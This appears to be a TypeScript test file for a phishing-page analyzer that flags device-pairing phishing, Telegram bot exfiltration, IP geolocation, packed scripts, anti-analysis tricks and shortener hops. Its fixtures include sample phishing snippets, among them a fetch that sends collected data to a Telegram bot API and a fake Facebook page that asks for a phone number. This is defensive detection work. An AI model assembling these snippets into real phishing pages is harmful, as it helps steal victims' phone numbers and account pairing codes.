import { test } from 'node:test';
import assert from 'node:assert/strict';
import { analyzePage, analyzePageEvidence } from '../analyze-page.ts';
import type { PageEvidence } from '../subjects/page-evidence.ts';
import type { Verdict } from '../types.ts';

const rules = (v: Verdict): string[] => v.findings.map((f) => f.rule);
const withScript = (code: string, body = '<p>Hello</p>'): string => `<html><head><title>x</title></head><body>${body}<script>${code}</script></body></html>`;

test('inline Socket.IO pairing events (number up, code down) → pairing-socket', () => {
  const js = `const s = io('/socket.io?type=number'); s.emit('start_number', { n: phone }); s.on('code', (c) => show(c)); s.on('ready', go);`;
  const v = analyzePage(withScript(js), 'https://winner-close.pro/home/final2');
  assert.ok(rules(v).includes('page-kit/pairing-socket'), rules(v).join());
  assert.equal(v.attack, 'ghostpairing');
});

test('a chat widget on socket.io with unrelated events is not a pairing socket', () => {
  const js = `const s = io(); s.on('message', add); s.emit('join', room); s.on('typing', t);`;
  assert.ok(!rules(analyzePage(withScript(js), 'https://chat.example.com/')).some((r) => r.startsWith('page-kit/pairing')));
});

test('Telegram bot exfiltration, IP geolocation, packer and anti-analysis are reported', () => {
  const js = `fetch('https://ipapi.co/json').then(r=>r.json()).then(d=>cc.value=d.country_calling_code);
    fetch('https://api.telegram.org/bot123456:ABC/sendMessage?chat_id=1&text='+x);
    eval(function(p,a,c,k,e,d){return p}('x',1,1,'x'.split('|'),0,{}));
    document.addEventListener('contextmenu', e => e.preventDefault());
    setInterval(function(){ debugger; }, 100);`;
  const v = analyzePage(withScript(js, '<input type="tel" name="phone">'), 'https://promo.example.top/');
  const r = rules(v);
  for (const want of ['page-kit/telegram-bot-exfiltration', 'page-kit/ip-geolocation', 'page-kit/obfuscated-script', 'page-kit/anti-analysis']) {
    assert.ok(r.includes(want), `${want} missing from ${r.join()}`);
  }
});

function evidence(over: Partial<PageEvidence>): PageEvidence {
  return {
    requestedUrl: 'https://bit.ly/abc', finalUrl: 'https://fb-photo.live/view', redirects: [], status: 200, title: '', html: '',
    visibleText: '', forms: [], inputs: [], links: [], scripts: [], requests: [], websockets: [], consoleErrors: [], dialogs: [],
    popups: [], faviconSha256: '', images: [], timings: { startedAt: '2026-01-01T00:00:00Z', totalMs: 1, navigationMs: 1 }, limitsHit: [],
    ...over,
  };
}

test('sandbox evidence: Facebook-looking page, tel input, socket events, shortener hop → dangerous', () => {
  const v = analyzePageEvidence(evidence({
    title: 'Facebook',
    html: '<html><head><title>Facebook</title><link rel="icon" href="/facebook.ico"></head><body><h1>Facebook</h1></body></html>',
    visibleText: 'Facebook\nConfirm your age to view the photo.\nEnter your phone number',
    redirects: [{ url: 'https://bit.ly/abc', status: 301, kind: 'http' }, { url: 'https://fb-photo.live/view', status: 200, kind: 'initial' }],
    inputs: [{ tag: 'input', type: 'tel', name: 'phone', id: 'p', placeholder: '+7', autocomplete: '', maxLength: null, inputMode: '', label: '', visible: true }],
    websockets: [{ url: 'wss://fb-photo.live/socket.io/?type=number', frames: [{ dir: 'sent', data: '42["init_number",{}]' }], socketIoEvents: ['init_number', 'code'] }],
  }));
  assert.equal(v.level, 'dangerous');
  assert.equal(v.attack, 'ghostpairing');
  const r = rules(v);
  assert.ok(r.includes('page-kit/pairing-socket') && r.includes('page-kit/shortener-redirect'), r.join());
});

test('sandbox evidence of a failed capture → unknown with a readable reason', () => {
  const v = analyzePageEvidence(evidence({ error: { code: 'dns', message: 'NXDOMAIN' } }));
  assert.equal(v.level, 'unknown');
  assert.ok(v.findings.some((f) => f.rule === 'engine/unsupported-input'));
});

test('hand-written Socket.IO protocol (event names as string literals) is read too', () => {
  const js = `var ws = new WebSocket('wss://' + location.host + '/socket.io/?EIO=4&transport=websocket');
    function emit(ev, d) { ws.send('42' + JSON.stringify([ev, d])); }
    ws.onmessage = function (m) { var msg = JSON.parse(m.data.slice(2)); if (msg[0] === 'ready') emit('send_phone', n); if (msg[0] === 'code') show(msg[1]); };`;
  assert.ok(rules(analyzePage(withScript(js), 'https://x.example.top/')).includes('page-kit/pairing-socket'));
  // The same literals without any socket are ordinary code.
  assert.ok(!rules(analyzePage(withScript(`if (x === 'code') f('send_phone');`), 'https://x.example.top/')).includes('page-kit/pairing-socket'));
});
